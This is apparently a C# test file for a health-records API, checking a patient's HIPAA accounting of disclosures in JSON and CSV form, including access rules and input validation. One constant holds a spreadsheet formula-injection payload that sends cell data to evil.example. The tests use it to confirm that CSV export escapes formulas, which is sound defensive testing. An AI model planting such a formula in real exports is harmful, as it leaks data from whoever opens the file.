using System.Net;
using System.Net.Http.Headers;
using System.Text.Json;
using CsvHelper;
using HealthEvents.Domain.Common;
using HealthEvents.TestSupport;

namespace HealthEvents.Api.Tests;

/// <summary>
/// GET /patients/{id}/disclosures over HTTP against the seeded demo: the accounting of disclosures a patient is entitled to
/// (HIPAA §164.528) — every release to someone else, with date, recipient, organisation, what and why — as JSON and CSV.
/// </summary>
public sealed class DisclosureTests(DemoServiceFixture fixture) : IClassFixture<DemoServiceFixture>
{
    private ServiceHost Host => fixture.Host;

    /// <summary>A reason a spreadsheet would run as a formula if the CSV carried it as it is.</summary>
    private const string FormulaReason = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Unconscious on arrival\")";

    [Fact]
    public async Task The_accounting_lists_each_release_to_someone_else_with_date_recipient_organisation_what_and_why()
    {
        var (patient, self) = await PatientWithHistoryAsync();

        var response = await self.GetFreshAsync($"/patients/{patient}/disclosures");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var report = await response.JsonAsync();
        var items = report.GetProperty("disclosures").EnumerateArray().ToList();
        Assert.Equal(2, items.Count); // not the patient's own read, the refused request, nor the question
        var (read, breakGlass) = (items[0], items[1]);
        Assert.Equal(("riverside-physician", "physician"), (read.GetProperty("recipient").GetProperty("id").GetString(), read.GetProperty("recipient").GetProperty("role").GetString()));
        Assert.Equal(("Riverside University Hospital", "riverside"),
            (read.GetProperty("organisation").GetProperty("name").GetString(), read.GetProperty("organisation").GetProperty("hospitalId").GetString()));
        Assert.Equal(["conditions"], read.GetProperty("disclosed").EnumerateArray().Select(c => c.GetString()));
        Assert.Equal("treatment", read.GetProperty("purpose").GetString());
        Assert.False(read.GetProperty("emergency").GetBoolean());

        Assert.Equal("Lakeside Clinic", breakGlass.GetProperty("organisation").GetProperty("name").GetString());
        Assert.True(breakGlass.GetProperty("emergency").GetBoolean());
        Assert.Equal(FormulaReason, breakGlass.GetProperty("reason").GetString());
        Assert.Equal(Categories.All.Count, breakGlass.GetProperty("disclosed").GetArrayLength());
        Assert.True(read.GetProperty("at").GetDateTimeOffset() <= breakGlass.GetProperty("at").GetDateTimeOffset());

        // Each disclosure is found in the verifiable trail by its event.
        var trail = await (await self.GetFreshAsync($"/patients/{patient}/audit?action=access-granted")).JsonAsync();
        var granted = trail.GetProperty("items").EnumerateArray().Single(r => r.GetProperty("actor").GetProperty("id").GetString() == "riverside-physician");
        Assert.Equal(granted.GetProperty("eventId").GetString(), read.GetProperty("eventId").GetString());
        Assert.Equal(granted.GetProperty("hash").GetString(), read.GetProperty("hash").GetString());

        // The period: six years back by default; from inclusive, to exclusive.
        var at = breakGlass.GetProperty("at").GetDateTimeOffset();
        Assert.InRange(DateTimeOffset.Parse(report.GetProperty("from").GetString()!), DateTimeOffset.UtcNow.AddYears(-6).AddMinutes(-5), DateTimeOffset.UtcNow.AddYears(-6).AddMinutes(5));
        var since = await (await self.GetFreshAsync($"/patients/{patient}/disclosures?from={Uri.EscapeDataString(at.ToString("O"))}")).JsonAsync();
        Assert.Equal([breakGlass.GetProperty("eventId").GetString()], since.GetProperty("disclosures").EnumerateArray().Select(d => d.GetProperty("eventId").GetString()));
        var until = await (await self.GetFreshAsync($"/patients/{patient}/disclosures?to={Uri.EscapeDataString(at.ToString("O"))}")).JsonAsync();
        Assert.DoesNotContain(breakGlass.GetProperty("eventId").GetString(), until.GetProperty("disclosures").EnumerateArray().Select(d => d.GetProperty("eventId").GetString()));

        // The break-glass reason is health data: it stays out of the logs.
        Assert.DoesNotContain(Host.Logs.Lines, line => line.Contains("evil.example", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("?format=csv", null)]
    [InlineData("", "text/csv")]
    [InlineData("", "application/json;q=0.5, text/csv")]
    public async Task The_accounting_comes_as_CSV_that_a_spreadsheet_cannot_run(string query, string? accept)
    {
        var (patient, self) = await PatientWithHistoryAsync();
        HttpRequestMessage Request()
        {
            var request = new HttpRequestMessage(HttpMethod.Get, $"/patients/{patient}/disclosures{query}");
            if (accept is not null) request.Headers.Accept.ParseAdd(accept);
            return request;
        }

        var response = await self.SendFreshAsync(Request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var rows = new List<Dictionary<string, string>>();
        using (var csv = CsvReader.Create(await response.Content.ReadAsByteArrayAsync()))
            while (csv.Read())
                rows.Add(csv.Headers!.Select((name, i) => (name, value: csv.GetString(i))).ToDictionary(x => x.name, x => x.value));
        Assert.Equal(2, rows.Count);
        Assert.Equal(("riverside-physician", "Riverside University Hospital", "conditions", "treatment", "no"),
            (rows[0]["recipient"], rows[0]["organisation"], rows[0]["disclosed"], rows[0]["purpose"], rows[0]["emergency"]));
        Assert.Equal("yes", rows[1]["emergency"]);
        // The formula arrives as text: escaped with a leading apostrophe, the rest intact.
        Assert.Equal("'" + FormulaReason, rows[1]["reason"]);
        Assert.All(rows.SelectMany(r => r.Values), value => Assert.False(value.Length > 0 && "=+-@".Contains(value[0]), $"a cell starts like a formula: {value}"));
    }

    [Fact]
    public async Task A_patient_without_disclosures_gets_an_empty_accounting_as_JSON_by_default()
    {
        var (patient, self) = await NewPatientAsync();
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/patients/{patient}/disclosures");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/json"));
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv", 0.5));

        var response = await Host.Client(self).SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        Assert.Empty((await response.JsonAsync()).GetProperty("disclosures").EnumerateArray());
    }

    [Theory]
    [InlineData("?from=yesterday", 400, "from")]
    [InlineData("?to=2026-13-45", 400, "to")]
    [InlineData("?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", 400, null)]
    [InlineData("?format=xml", 400, null)]
    [InlineData("?format=csv%00", 400, "format")]
    public async Task Bad_query_input_is_a_problem_and_changes_nothing(string query, int status, string? field)
    {
        var before = await Host.CountsAsync();

        var response = await Host.As("alice (patient)").GetAsync($"/patients/{AuthorizationTests.Alice}/disclosures{query}");

        Assert.Equal(status, (int)response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = await response.JsonAsync();
        if (field is not null) Assert.True(problem.GetProperty("errors").TryGetProperty(field, out _), $"no field error for {field}");
        else Assert.Equal("invalid-query", problem.GetProperty("code").GetString());
        Assert.Equal(before, await Host.CountsAsync());
    }

    [Theory]
    [InlineData("riverside physician")]
    [InlineData("bob (patient)")]
    [InlineData("researcher")]
    public async Task Only_the_patient_reads_their_accounting(string caller)
    {
        var response = await Host.As(caller).GetAsync($"/patients/{AuthorizationTests.Alice}/disclosures?format=csv");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("forbidden", (await response.JsonAsync()).GetProperty("code").GetString());
    }

    [Fact]
    public async Task A_research_publication_that_counted_the_patient_is_a_disclosure_to_the_researchers_organisation()
    {
        var declared = await Host.As("researcher").PostJsonAsync("/research/projections", new { name = "disclosed-by-sex", groupBy = new[] { "sex" }, k = 2 });
        Assert.Equal(HttpStatusCode.Created, declared.StatusCode);
        var alice = Host.As("alice (patient)");

        // The publication lands in the research stream when the projection goes live; wait for the audit view to show it.
        var deadline = DateTime.UtcNow + Patience.Deadline;
        JsonElement use;
        while (true)
        {
            Assert.Equal(HttpStatusCode.OK, (await Host.As("researcher").GetAsync("/research/projections/disclosed-by-sex")).StatusCode);
            var report = await (await alice.GetFreshAsync($"/patients/{AuthorizationTests.Alice}/disclosures")).JsonAsync();
            var found = report.GetProperty("disclosures").EnumerateArray().Where(d => d.GetProperty("recipient").GetProperty("role").GetString() == "researcher").ToList();
            if (found.Count > 0) { use = found.Single(); break; }
            Assert.True(DateTime.UtcNow < deadline, "no research use appeared in the accounting");
            await Task.Delay(200);
        }

        Assert.Equal("researcher-1", use.GetProperty("recipient").GetProperty("id").GetString());
        Assert.Equal("Lakeside University", use.GetProperty("organisation").GetProperty("name").GetString());
        Assert.Equal("research", use.GetProperty("purpose").GetString());
        Assert.Equal(["conditions", "medications"], use.GetProperty("disclosed").EnumerateArray().Select(c => c.GetString()).Order());
        Assert.Contains("disclosed-by-sex", use.GetProperty("description").GetString());
    }

    /// <summary>
    /// A fresh patient whose record was: read by a riverside physician under consent, read by the patient, refused to a
    /// lakeside nurse, opened by a lakeside physician in an emergency, and asked about by a riverside nurse.
    /// </summary>
    private async Task<(Guid Patient, HttpClient Self)> PatientWithHistoryAsync()
    {
        var (patient, token) = await NewPatientAsync();
        var self = Host.Client(token);
        Assert.Equal(HttpStatusCode.Created, (await self.PostJsonAsync($"/patients/{patient}/consents",
            new { grantee = new { kind = "hospital", id = "riverside" }, categories = new[] { "conditions" }, purposes = new[] { "treatment" }, actions = new[] { "read" } })).StatusCode);
        var treatment = new { purpose = "treatment", categories = new[] { "conditions" } };
        Assert.Equal(HttpStatusCode.OK, (await Host.As("riverside physician").PostJsonAsync($"/patients/{patient}/access", treatment)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await self.PostJsonAsync($"/patients/{patient}/access", treatment)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await Host.As("lakeside nurse").PostJsonAsync($"/patients/{patient}/access", treatment)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await Host.As("lakeside physician").PostJsonAsync($"/patients/{patient}/emergency-access", new { reason = FormulaReason })).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await Host.As("riverside nurse").GetAsync($"/patients/{patient}/access/explain?purpose=treatment&category=conditions")).StatusCode);
        return (patient, self);
    }

    private async Task<(Guid Patient, string Token)> NewPatientAsync()
    {
        var registered = await Host.As("northside physician").PostJsonAsync("/patients", new { homeHospital = "northside", birthYear = 1970, sex = "female", name = "Disclosed Patient" });
        Assert.Equal(HttpStatusCode.Created, registered.StatusCode);
        var patient = (await registered.JsonAsync()).GetProperty("patientId").GetGuid();
        return (patient, Host.Mint("northside", $"disclosed-{patient:N}", Role.Patient, patient));
    }
}
